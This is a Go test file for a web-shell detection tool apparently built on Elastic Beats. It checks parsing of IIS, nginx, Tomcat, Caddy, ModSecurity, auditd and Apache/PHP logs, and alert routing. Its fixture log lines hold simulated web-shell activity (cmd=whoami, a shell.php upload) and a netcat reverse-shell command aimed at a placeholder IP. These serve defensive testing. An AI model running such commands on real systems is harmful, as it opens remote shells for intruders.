//go:build !windows

package processor

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/elastic/beats/v7/libbeat/beat"
	"github.com/elastic/beats/v7/libbeat/beat/events"
	conf "github.com/elastic/elastic-agent-libs/config"
	"github.com/elastic/elastic-agent-libs/logp"
	"github.com/elastic/elastic-agent-libs/logp/logptest"
	"github.com/elastic/elastic-agent-libs/mapstr"

	"webshellbeat/internal/testfiles"
)

func newProc(t *testing.T, ctor func(*conf.C, *logp.Logger) (beat.Processor, error), cfg map[string]any) beat.Processor {
	t.Helper()
	p, err := ctor(conf.MustNewConfigFrom(cfg), logptest.NewTestingLogger(t, ""))
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func event(msg string) *beat.Event {
	return &beat.Event{Timestamp: time.Now(), Fields: mapstr.M{"message": msg, "log": mapstr.M{"file": mapstr.M{"path": "/var/log/x.log"}}}}
}

func get(t *testing.T, ev *beat.Event, key string) any {
	t.Helper()
	v, _ := ev.Fields.GetValue(key)
	return v
}

func TestDecodeWindowsEvent(t *testing.T) {
	xml, err := os.ReadFile("../../shared/data/seed/security-4688.xml")
	if err != nil {
		t.Fatal(err)
	}
	text, err := os.ReadFile("../../shared/data/seed/sysmon-1.txt")
	if err != nil {
		t.Fatal(err)
	}
	syslog, err := os.ReadFile("../testdata/samples/tomcat_log4shell_syslog.log")
	if err != nil {
		t.Fatal(err)
	}
	var javaChild string // Sysmon for Linux: Tomcat's java starts bash
	for _, line := range strings.Split(string(syslog), "\n") {
		if strings.Contains(line, "sysmon: ") && strings.Contains(line, "{base64,-d}") {
			javaChild = line
		}
	}
	const traditional = "May 11 18:10:22 UBUNTU5 sysmon: "
	rfc5424 := strings.Replace(javaChild, traditional, "<14>1 2022-05-11T18:10:22Z UBUNTU5 sysmon - - - ", 1)
	// A Log Analytics SecurityEvent row (Sentinel's API), one JSON line.
	la, err := os.ReadFile("../module/windows/testdata/loganalytics.json")
	if err != nil {
		t.Fatal(err)
	}
	securityEvent, _, _ := strings.Cut(string(la), "\n")
	p := newProc(t, newWindows, map[string]any{})
	for _, tt := range []struct{ name, raw, wantName, wantParent string }{
		{"xml", string(xml), "cmd.exe", "w3wp.exe"},
		{"log analytics securityevent", securityEvent, "cmd.exe", "w3wp.exe"},
		{"sysmon text", string(text), "cmd.exe", "w3wp.exe"},
		{"sysmon for linux in syslog", javaChild, "bash", "java"},
		{"sysmon for linux in rfc 5424 syslog", rfc5424, "bash", "java"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			ev, err := p.Run(event(tt.raw))
			if err != nil || ev == nil {
				t.Fatalf("Run: %v %v", ev, err)
			}
			if get(t, ev, "process.name") != tt.wantName || get(t, ev, "process.parent.name") != tt.wantParent {
				t.Errorf("process %v parent %v", get(t, ev, "process.name"), get(t, ev, "process.parent.name"))
			}
			if get(t, ev, "message") != nil || get(t, ev, "event.original") != tt.raw || get(t, ev, "log.file.path") != "/var/log/x.log" {
				t.Errorf("message moved to event.original and input fields kept: %v", ev.Fields)
			}
			// The syslog sample's message was cut in transport: mapped, and said so.
			if msg, _ := get(t, ev, "error.message").(string); strings.Contains(tt.name, "syslog") != strings.Contains(msg, "cut short") {
				t.Errorf("error.message %q", msg)
			}
		})
	}
	t.Run("malformed xml kept with error", func(t *testing.T) {
		raw := `<Event><System><EventID>4688</EventID>`
		ev, err := p.Run(event(raw))
		if err != nil || ev == nil {
			t.Fatalf("Run: %v %v", ev, err)
		}
		msg, _ := get(t, ev, "error.message").(string)
		if !strings.Contains(msg, "decode_windows_event") || get(t, ev, "message") != raw {
			t.Errorf("error.message %q, message %v", msg, get(t, ev, "message"))
		}
	})
}

func TestDecodeAccessLog(t *testing.T) {
	p := newProc(t, newAccess, map[string]any{"server": "nginx"})
	ev, _ := p.Run(event(`127.0.0.1 - - [25/Nov/2026:19:02:28 +0000] "GET /app/login.php?debug=whoami HTTP/1.1" 200 104 "-" "curl"`))
	if get(t, ev, "url.path") != "/app/login.php" || get(t, ev, "event.module") != "nginx" {
		t.Errorf("fields %v", ev.Fields)
	}
	if ev.Timestamp.Format(time.RFC3339) != "2026-11-25T19:02:28Z" {
		t.Errorf("timestamp %v, want the log line's", ev.Timestamp)
	}
	bad, _ := p.Run(event(`\x16\x03\x01 garbage`))
	if bad == nil || get(t, bad, "error.message") == nil {
		t.Errorf("malformed line: %v", bad)
	}
	// An error log line in the same file is an error log event, as in hunt.
	errLine, _ := p.Run(event(`2026/11/25 19:02:29 [error] 7#7: *3 open() "/var/www/x" failed (2: No such file or directory), client: 127.0.0.1, server: _, request: "GET /x HTTP/1.1", host: "h"`))
	if get(t, errLine, "event.dataset") != "nginx.error" || get(t, errLine, "error.message") != nil || get(t, errLine, "source.ip") != "127.0.0.1" {
		t.Errorf("error log line among the requests: %v", errLine.Fields)
	}

	// Tomcat's AccessLogValve writes the common format.
	tomcat := newProc(t, newAccess, map[string]any{"server": "tomcat"})
	ev, _ = tomcat.Run(event(`127.0.0.1 - - [26/Nov/2026:01:57:17 +0000] "GET /t.jsp?c=id HTTP/1.1" 200 52`))
	if get(t, ev, "url.path") != "/t.jsp" || get(t, ev, "event.dataset") != "tomcat.access" {
		t.Errorf("tomcat fields %v", ev.Fields)
	}

	w3c := newProc(t, newAccess, map[string]any{"format": "w3c", "server": "iis"})
	// IIS writes a UTF-8 byte order mark at the start of a UTF-8 log: the
	// first line's directive is still a directive.
	if ev, _ := w3c.Run(event("\ufeff#Software: Microsoft Internet Information Services 10.0")); ev != nil {
		t.Errorf("a #Software directive after a byte order mark is not an event: %v", ev.Fields)
	}
	if ev, _ := w3c.Run(event("#Fields: date time cs-method cs-uri-stem cs-uri-query c-ip sc-status")); ev != nil {
		t.Errorf("a #Fields directive is not an event: %v", ev.Fields)
	}
	ev, _ = w3c.Run(event("2025-06-10 02:30:00 GET /x.aspx cmd=whoami 10.0.0.9 200"))
	if get(t, ev, "url.query") != "cmd=whoami" || get(t, ev, "source.ip") != "10.0.0.9" {
		t.Errorf("w3c fields %v", ev.Fields)
	}
	if get(t, ev, "event.module") != "iis" {
		t.Errorf("w3c without server: event.module %v, want iis", get(t, ev, "event.module"))
	}

	// nginx's escape=json log_format; the server defaults to nginx.
	js := newProc(t, newAccess, map[string]any{"format": "json"})
	ev, _ = js.Run(event(`{"time_local":"26/Nov/2026:06:55:09 +0000","remote_addr":"10.1.2.3","request":"GET /up/a.php?c=id HTTP/1.1","status":200,"body_bytes_sent":3,"http_user_agent":"curl"}`))
	if get(t, ev, "url.path") != "/up/a.php" || get(t, ev, "event.dataset") != "nginx.access" || get(t, ev, "source.ip") != "10.1.2.3" {
		t.Errorf("json fields %v", ev.Fields)
	}
	if ev.Timestamp.Format(time.RFC3339) != "2026-11-26T06:55:09Z" {
		t.Errorf("json timestamp %v, want the line's", ev.Timestamp)
	}
	// Unset, the server is told by the object: Caddy's layout.
	ev, _ = js.Run(event(`{"level":"info","ts":1764140109.52,"logger":"http.log.access.log0","msg":"handled request","request":{"client_ip":"203.0.113.9","method":"GET","host":"shop.example","uri":"/a.php?c=id","headers":{"User-Agent":["curl/8.5.0"]}},"size":3,"status":200}`))
	if get(t, ev, "event.dataset") != "caddy.access" || get(t, ev, "url.path") != "/a.php" {
		t.Errorf("caddy fields %v", ev.Fields)
	}
	bad, _ = js.Run(event(`{"remote_addr":"10.1.2.3","request":"GET / HTTP/1.1","status":200}`))
	if msg, _ := get(t, bad, "error.message").(string); !strings.Contains(msg, "no time key") {
		t.Errorf("json line without a time: error.message %q", msg)
	}

	// A ModSecurity audit log entry, its lines joined by the module's
	// multiline parser.
	ms := newProc(t, newAccess, map[string]any{"format": "modsec"})
	ev, _ = ms.Run(event("--0a1b2c3d-A--\n[26/Nov/2026:10:00:01 +0000] AbCdEf 203.0.113.7 40000 10.0.0.10 80\n--0a1b2c3d-B--\nPOST /up/a.php HTTP/1.1\nHost: shop.example\n\n--0a1b2c3d-C--\ncmd=id\n--0a1b2c3d-F--\nHTTP/1.1 200 OK\n\n--0a1b2c3d-Z--"))
	if get(t, ev, "url.path") != "/up/a.php" || get(t, ev, "event.dataset") != "modsecurity.audit" || get(t, ev, "webshell.body.param_values") == nil {
		t.Errorf("modsec fields %v", ev.Fields)
	}
	if ev.Timestamp.Format(time.RFC3339) != "2026-11-26T10:00:01Z" {
		t.Errorf("modsec timestamp %v, want the entry's", ev.Timestamp)
	}
	ev, _ = ms.Run(event(`{"transaction":{"time":"26/Nov/2026:19:02:21.157450 +0000","transaction_id":"awiCPTJo","remote_address":"127.0.0.1","remote_port":35376,"local_address":"127.0.0.1","local_port":18080},"request":{"request_line":"POST /uploads/shell.php HTTP/1.1","headers":{"Host":"wsb-modsec.localhost","Content-Type":"application/x-www-form-urlencoded"},"body":["cmd=whoami"]},"response":{"protocol":"HTTP/1.1","status":200,"headers":{},"body":"www-data\n"},"audit_data":{}}`))
	if get(t, ev, "url.domain") != "wsb-modsec.localhost" || get(t, ev, "http.request.body.content") != "cmd=whoami" {
		t.Errorf("modsec JSON fields %v", ev.Fields)
	}
	bad, _ = ms.Run(event("--0a1b2c3d-B--\nGET / HTTP/1.1\n"))
	if msg, _ := get(t, bad, "error.message").(string); !strings.Contains(msg, "no A section") {
		t.Errorf("entry without its header: error.message %q", msg)
	}
}

func TestDecodeAuditd(t *testing.T) {
	raw, err := os.ReadFile("../../shared/data/seed/audit.log")
	if err != nil {
		t.Fatal(err)
	}
	p := newProc(t, newAuditd, map[string]any{})
	ev, _ := p.Run(event(string(raw)))
	if get(t, ev, "process.executable") != "/bin/bash" || get(t, ev, "user.id") != "33" {
		t.Errorf("fields %v", ev.Fields)
	}
}

// decode_error_log: times in the configured zone, a command's output dated
// by the line before it in the same file, the first unprefixed line of a
// file by when it was read, and each file on its own.
func TestDecodeErrorLog(t *testing.T) {
	p := newProc(t, newErrorLog, map[string]any{"timezone": "Europe/Berlin"})
	ev, _ := p.Run(event(`[Wed Nov 25 10:00:00.000001 2026] [php:error] [pid 7] [client 203.0.113.9:4242] PHP Warning:  system(): Unable to fork [nc -e /bin/sh 198.51.100.1 4444] in /var/www/html/uploads/x.php on line 1`))
	if ev.Timestamp.UTC().Format(time.RFC3339Nano) != "2026-11-25T09:00:00.000001Z" || get(t, ev, "event.dataset") != "apache.error" ||
		get(t, ev, "source.ip") != "203.0.113.9" || get(t, ev, "apache.error.module") != "php" || get(t, ev, "event.original") == nil {
		t.Errorf("prefixed line: %v at %v", ev.Fields, ev.Timestamp)
	}
	out, _ := p.Run(event("sh: 0: can't access tty; job control turned off"))
	if !out.Timestamp.Equal(ev.Timestamp) || get(t, out, "message") != "sh: 0: can't access tty; job control turned off" || get(t, out, "event.dataset") != "apache.error" {
		t.Errorf("unprefixed line: %v at %v", out.Fields, out.Timestamp)
	}
	// One file for both logs (or a container's whole output): an access
	// line is an access event, and dates the output after it.
	access, _ := p.Run(event(`203.0.113.9 - - [25/Nov/2026:10:05:00 +0100] "GET /uploads/x.php?c=nc HTTP/1.1" 200 12 "-" "curl"`))
	if get(t, access, "event.dataset") != "apache.access" || access.Timestamp.UTC().Format(time.RFC3339) != "2026-11-25T09:05:00Z" {
		t.Errorf("access line in the error log: %v at %v", access.Fields, access.Timestamp)
	}
	after, _ := p.Run(event("sh: 1: nc: not found"))
	if !after.Timestamp.Equal(access.Timestamp) || get(t, after, "event.dataset") != "apache.error" {
		t.Errorf("output after the access line: %v at %v, want the request's time", after.Fields, after.Timestamp)
	}
	other := event("sh: 1: nc: not found")
	other.Fields.Put("log.file.path", "/var/log/apache2/other-error.log")
	read := other.Timestamp
	other, _ = p.Run(other)
	if !other.Timestamp.Equal(read) || get(t, other, "error.message") != nil || get(t, other, "tags") == nil {
		t.Errorf("first line of another file: %v at %v, want read time %v", other.Fields, other.Timestamp, read)
	}
	if blank, err := p.Run(event("  ")); blank != nil || err != nil {
		t.Errorf("a blank line: %v, %v; want no event, as hunt reads none", blank, err)
	}
	fpm := newProc(t, newErrorLog, map[string]any{"server": "php_fpm", "timezone": "UTC"})
	worker, _ := fpm.Run(event(`[26-Nov-2026 11:01:58] WARNING: [pool www] child 3914 said into stderr: "sh: 1: wsbnothere: not found"`))
	if get(t, worker, "event.dataset") != "php_fpm.error" || get(t, worker, "php_fpm.pool.name") != "www" || get(t, worker, "process.pid") != int64(3914) || worker.Timestamp.Hour() != 11 {
		t.Errorf("php-fpm worker line: %v at %v", worker.Fields, worker.Timestamp)
	}
	php := newProc(t, newErrorLog, map[string]any{"server": "php", "timezone": "Asia/Tokyo"}) // the line's own zone wins
	fatal, _ := php.Run(event(`[26-Nov-2026 12:08:42 Europe/Berlin] PHP Fatal error:  Uncaught Error: Call to undefined function passthru() in /var/www/x.php:1`))
	if get(t, fatal, "event.dataset") != "php.error" || get(t, fatal, "log.level") != "fatal error" || fatal.Timestamp.UTC().Hour() != 11 {
		t.Errorf("PHP error_log line: %v at %v", fatal.Fields, fatal.Timestamp)
	}
	nginx := newProc(t, newErrorLog, map[string]any{"server": "nginx", "timezone": "UTC"})
	bad, _ := nginx.Run(event("2026/13/45 99:00:00 [error] 1#1: x"))
	if msg, _ := get(t, bad, "error.message").(string); !strings.Contains(msg, "is not nginx's") || get(t, bad, "event.original") == nil {
		t.Errorf("malformed first line: %v", bad.Fields)
	}
}

func TestProcessorConfigErrors(t *testing.T) {
	log := logptest.NewTestingLogger(t, "")
	for _, tt := range []struct {
		name string
		ctor func(*conf.C, *logp.Logger) (beat.Processor, error)
		cfg  map[string]any
		want string
	}{
		{"access unknown key", newAccess, map[string]any{"fromat": "w3c"}, `unknown option "fromat"`},
		{"access bad format", newAccess, map[string]any{"format": "ndjson"}, `format "ndjson" is not one of combined, w3c, json, modsec`},
		{"access modsec server", newAccess, map[string]any{"format": "modsec", "server": "apache"}, `format modsec takes no server`},
		{"access unknown server", newAccess, map[string]any{"server": "cherokee"}, "not one of apache, nginx, iis, tomcat, lighttpd, caddy, traefik"},
		{"error log unknown server", newErrorLog, map[string]any{"server": "iis"}, "not one of apache, nginx, php_fpm, php"},
		{"container unknown server", newContainer, map[string]any{"server": "lighttpd"}, "not one of apache, nginx, php_fpm, iis, tomcat, caddy, traefik"},
		{"container unknown key", newContainer, map[string]any{"timezone": "UTC"}, `unknown option "timezone"`},
		{"error log bad zone", newErrorLog, map[string]any{"timezone": "Mars/Olympus"}, `timezone "Mars/Olympus"`},
		{"windows wrong type", newWindows, map[string]any{"field": []string{"a", "b"}}, "field"},
		{"webshell bad events", newWebshell, map[string]any{"events": 3}, "events"},
		{"webshell missing rules", newWebshell, map[string]any{"rules": map[string]any{"builtin": false, "paths": []string{"/nonexistent"}}}, "no usable rule"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			_, err := tt.ctor(conf.MustNewConfigFrom(tt.cfg), log)
			if err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Errorf("err = %v, want it to contain %q", err, tt.want)
			}
		})
	}
}

func TestWebshellRouting(t *testing.T) {
	alertOnly := newProc(t, newWebshell, map[string]any{"events": "none", "namespace": "prod"})
	all := newProc(t, newWebshell, map[string]any{})
	mk := func(cmd string) *beat.Event {
		return &beat.Event{Timestamp: time.Now(), Fields: mapstr.M{
			"event":   mapstr.M{"category": []string{"process"}, "type": []string{"start"}},
			"host":    mapstr.M{"os": mapstr.M{"type": "windows"}},
			"process": mapstr.M{"executable": `C:\Windows\System32\` + cmd, "name": cmd, "parent": mapstr.M{"executable": `C:\Windows\System32\inetsrv\w3wp.exe`, "name": "w3wp.exe"}},
		}}
	}
	ev, _ := alertOnly.Run(mk("cmd.exe"))
	if ev == nil || get(t, ev, "event.kind") != "alert" || ev.Meta[events.FieldMetaRawIndex] != "logs-webshellbeat.alert-prod" {
		t.Fatalf("alert: %v meta %v", ev.Fields, ev.Meta)
	}
	if _, ok := ev.Fields["@timestamp"]; ok {
		t.Error("@timestamp left in fields")
	}
	benign := mk("csc.exe")
	if ev, _ := alertOnly.Run(benign); ev != nil {
		t.Errorf("events: none kept a non-alert: %v", ev.Fields)
	}
	ev, _ = all.Run(mk("csc.exe"))
	if ev == nil || ev.Meta[events.FieldMetaRawIndex] != "logs-webshellbeat.event-default" || get(t, ev, "data_stream.dataset") != "webshellbeat.event" {
		t.Errorf("event routing: %v %v", ev.Fields, ev.Meta)
	}
}

// With debug logging on, each alert is one line that says what it is about;
// other events log nothing.
func TestWebshellDebugLogsAlerts(t *testing.T) {
	log, buf := logp.NewInMemoryLocal("", logp.ConsoleEncoderConfig())
	p, err := newWebshell(conf.MustNewConfigFrom(map[string]any{}), log)
	if err != nil {
		t.Fatal(err)
	}
	mk := func(cmd, args string) *beat.Event {
		return &beat.Event{Timestamp: time.Now(), Fields: mapstr.M{
			"event":   mapstr.M{"category": []string{"process"}, "type": []string{"start"}},
			"host":    mapstr.M{"name": "WEB01", "os": mapstr.M{"type": "windows"}},
			"process": mapstr.M{"executable": `C:\Windows\System32\` + cmd, "name": cmd, "command_line": cmd + " " + args, "parent": mapstr.M{"executable": `C:\Windows\System32\inetsrv\w3wp.exe`, "name": "w3wp.exe"}},
		}}
	}
	buf.Reset()
	if _, err := p.Run(mk("csc.exe", "/noconfig /out:App_Web.dll")); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(buf.String(), "alert:") {
		t.Errorf("a benign event logged an alert line:\n%s", buf)
	}
	ev, _ := p.Run(mk("cmd.exe", "/c whoami"))
	line := buf.String()
	for _, want := range []string{"\tDEBUG\t", "alert: " + get(t, ev, "message").(string) + "\t", `"host.name": "WEB01"`, `"process.command_line": "cmd.exe /c whoami"`, `"process.parent.name": "w3wp.exe"`, `"webshell.rule_ids": ["`} {
		if !strings.Contains(line, want) {
			t.Errorf("debug line lacks %s:\n%s", want, line)
		}
	}
}

// A W3C file whose first event the processor sees is not at the file's
// start (the beat resumed there) is read by the #Fields header above it;
// a file that cannot be read there leaves IIS's default columns, with a
// warning, and no panic.
func TestAccessW3CResume(t *testing.T) {
	header := "#Software: Microsoft Internet Information Services 10.0\r\n#Fields: date time cs-method cs-uri-stem cs-uri-query c-ip sc-status\r\n"
	line := "2025-06-10 02:30:00 GET /x.aspx cmd=whoami 10.0.0.9 200"
	path := filepath.Join(t.TempDir(), "u_ex250610.log")
	testfiles.Write(t, path, header+line+"\r\n")
	at := func(path string, offset int64) *beat.Event {
		ev := event(line)
		ev.Fields["log"] = mapstr.M{"file": mapstr.M{"path": path}, "offset": offset}
		return ev
	}
	w3c := newProc(t, newAccess, map[string]any{"format": "w3c"})
	ev, _ := w3c.Run(at(path, int64(len(header))))
	if get(t, ev, "url.query") != "cmd=whoami" || get(t, ev, "source.ip") != "10.0.0.9" || get(t, ev, "error.message") != nil {
		t.Errorf("resumed after the header: %v", ev.Fields)
	}
	ev, _ = w3c.Run(at(filepath.Join(t.TempDir(), "gone.log"), int64(len(header))))
	if msg, _ := get(t, ev, "error.message").(string); !strings.Contains(msg, "IIS's default field list declares 15") {
		t.Errorf("resumed in a file that is gone: %v", ev.Fields)
	}
}
